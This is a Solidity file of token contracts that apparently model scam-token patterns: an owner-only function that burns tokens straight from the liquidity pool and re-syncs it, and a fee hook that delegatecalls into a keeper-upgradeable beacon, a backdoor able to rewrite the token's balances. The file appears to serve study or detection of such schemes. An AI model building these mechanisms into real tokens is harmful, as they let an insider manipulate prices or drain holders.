// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {PlainOwnable20, PlainToken20} from "./x00Base.sol";

interface ISyncedPair20 {
  function sync() external;
}

/// From the well-known template: burns from the pool "to raise the floor".
contract FloorRaiser is PlainToken20, PlainOwnable20 {
  uint256 public constant manualBurnFrequency = 30 minutes;
  uint256 public lastManualLpBurnTime;
  address public uniswapV2Pair;
  mapping(address => bool) public automatedMarketMakerPairs;

  event SetAutomatedMarketMakerPair(address indexed pair, bool indexed value);
  event ManualNukeLP();

  constructor() PlainToken20("Floor Raiser", "FLOOR", 18, 1_000_000_000 ether) {}

  function setAutomatedMarketMakerPair(address pair, bool value) public onlyOwner {
    automatedMarketMakerPairs[pair] = value;
    if (value) uniswapV2Pair = pair;
    emit SetAutomatedMarketMakerPair(pair, value);
  }

  function manualBurnLiquidityPairTokens(uint256 percent) external onlyOwner returns (bool) {
    require(block.timestamp > lastManualLpBurnTime + manualBurnFrequency, "Must wait for cooldown to finish");
    require(percent <= 1000, "May not nuke more than 10% of tokens in LP");
    lastManualLpBurnTime = block.timestamp;
    uint256 amountToBurn = (_balances[uniswapV2Pair] * percent) / 10000;
    if (amountToBurn > 0) _move(uniswapV2Pair, address(0xdead), amountToBurn);
    ISyncedPair20(uniswapV2Pair).sync();
    emit ManualNukeLP();
    return true;
  }
}

contract FlatFeeRule20 {
  function quote(address, address, uint256 amount) external pure returns (uint256 fee) {
    fee = amount / 100;
  }
}

contract FeeRuleBeacon20 {
  address public implementation = address(new FlatFeeRule20());
  address private _keeper = msg.sender;

  event Upgraded(address indexed implementation);

  function upgradeTo(address newImplementation) external {
    require(msg.sender == _keeper, "Beacon: not keeper");
    require(newImplementation.code.length > 0, "Beacon: no code");
    implementation = newImplementation;
    emit Upgraded(newImplementation);
  }
}

/// How the fee is reckoned is the beacon's business, in the token's own storage.
contract BeaconFeeCoin is PlainToken20 {
  FeeRuleBeacon20 private immutable _beacon;
  address public immutable feeWallet = msg.sender;

  constructor(FeeRuleBeacon20 beacon) PlainToken20("Beacon Fee", "BFEE", 18, 5_000_000 ether) {
    _beacon = beacon;
  }

  function _transfer(address from, address to, uint256 amount) internal override {
    (bool ok, bytes memory said) = _beacon.implementation().delegatecall(
      abi.encodeWithSelector(FlatFeeRule20.quote.selector, from, to, amount)
    );
    require(ok, "Fee rule");
    uint256 fee = from == feeWallet ? 0 : abi.decode(said, (uint256));
    if (fee > 0) _move(from, feeWallet, fee);
    _move(from, to, amount - fee);
  }
}
